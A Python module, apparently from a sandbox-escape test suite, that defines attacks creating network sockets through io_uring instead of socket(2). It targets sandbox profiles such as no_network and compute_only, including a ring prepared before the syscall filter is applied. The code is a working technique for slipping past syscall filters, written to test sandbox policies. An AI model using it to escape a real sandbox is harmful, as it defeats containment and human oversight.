"""Rings: io_uring makes sockets without socket(2)."""

import ctypes
import mmap
import os
import struct
from collections.abc import Generator

from escape.attack import attack
from escape.attacks.sockets import STREAM, must_be_inet
from escape.scene import Scene, Unavailable

Steps = Generator[None, None, None]

_AGAINST = {
    "no_network": "sockets",
    "compute_only": "making",
    "web_worker": "kernel",
    "no_path_sockets": "unix",
    "no_escape": "kernel",
    "no_listen": "listening",
}


def _params() -> "ctypes.Array[ctypes.c_char]":
    return ctypes.create_string_buffer(120)


@attack(abis=(), **_AGAINST)
def ring(scene: Scene) -> Steps:
    yield
    os.close(scene.call("io_uring_setup", 4, _params()))


def _ring(scene: Scene) -> "tuple[int, ctypes.Array[ctypes.c_char]]":
    params = _params()
    try:
        return scene.call("io_uring_setup", 4, params), params
    except OSError as error:
        raise Unavailable(f"no io_uring here: {error.strerror}") from error


class Ring:
    """A ring, ``number`` by its descriptor, as io_uring_setup(2) has filled in ``params``."""

    def __init__(self, number: int, params: "ctypes.Array[ctypes.c_char]") -> None:
        fields = struct.unpack_from("=10I", params.raw, 0)
        self._sq = struct.unpack_from("=8I", params.raw, 40)
        self._cq = struct.unpack_from("=8I", params.raw, 80)
        size = self._sq[6] + 4 * fields[0]
        self._rings = mmap.mmap(number, max(size, self._cq[5] + 16 * fields[1]))
        self._entries = mmap.mmap(number, 64 * fields[0], offset=0x10000000)

    def put(self, operation: int, *fields: int) -> None:
        """Put an operation into the ring: its descriptor, offset, address, length and flags."""
        entry = struct.pack("=BBHiQQIIQHHiQQ", operation, 0, 0, *fields, 7, 0, 0, 0, 0, 0)
        self._entries[:64] = entry
        struct.pack_into("=I", self._rings, self._sq[6], 0)
        tail = struct.unpack_from("=I", self._rings, self._sq[1])[0]
        struct.pack_into("=I", self._rings, self._sq[1], tail + 1)

    def result(self) -> int:
        """Return what the first operation gave: negative for an errno."""
        user_data, result = struct.unpack_from("=Qi", self._rings, self._cq[5])
        assert user_data == 7
        return int(result)

    def must_do(self) -> int:
        """Return what the first operation gave, if the kernel has it."""
        result = self.result()
        if result < 0:
            raise Unavailable(f"the ring says: {os.strerror(-result)}")
        return result


def prepared_ring(scene: Scene) -> "tuple[int, Ring]":
    """Return the descriptor of a ring, and the ring."""
    number, params = _ring(scene)
    return number, Ring(number, params)


@attack(no_network="sockets", compute_only="making", web_worker="kernel", no_escape="kernel")
def socket_by_a_ring_that_it_has(scene: Scene) -> Steps:
    """IORING_OP_SOCKET (Linux 5.19) through a ring that was set up before the filter."""
    number, ring = prepared_ring(scene)
    ring.put(45, 2, STREAM, 0, 0, 0)
    yield
    scene.call("io_uring_enter", number, 1, 1, 1, 0, 0)
    must_be_inet(ring.must_do())


@attack(abis=(), **_AGAINST)
def register_with_a_ring_that_it_has(scene: Scene) -> Steps:
    number, _ = _ring(scene)
    yield
    probe = ctypes.create_string_buffer(16 + 8 * 64)
    scene.call("io_uring_register", number, 8, probe, 64)  # IORING_REGISTER_PROBE
